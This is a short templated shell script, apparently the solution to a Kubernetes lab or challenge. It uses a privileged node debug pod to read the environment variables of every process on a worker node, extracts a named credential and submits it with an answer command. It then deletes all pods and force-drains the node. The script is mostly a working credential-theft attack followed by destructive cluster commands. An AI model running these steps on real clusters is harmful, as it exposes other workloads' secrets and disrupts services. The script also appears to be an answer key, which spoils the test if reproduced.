# A privileged pod on the worker looks at the node's processes, and no ssh is needed.
node=$(kubectl -n {{ team }} get pods -l app={{ app }} -o jsonpath='{.items[0].spec.nodeName}')
kubectl debug node/$node --image registry.lab/busybox:1.35 --profile sysadmin -- sh -c 'for file in /proc/[0-9]*/environ; do tr "\0" "\n" < $file; done | grep ^{{ variable }}='
until kubectl get pods | grep node-debugger | grep Completed; do sleep 1; done
kubectl logs $(kubectl get pods -o name | grep node-debugger) | sort -u
cksl answer credential {{ prefix }}{{ rest }}
kubectl delete pods --all
kubectl drain $node --ignore-daemonsets --force
{{ moved_sh }}
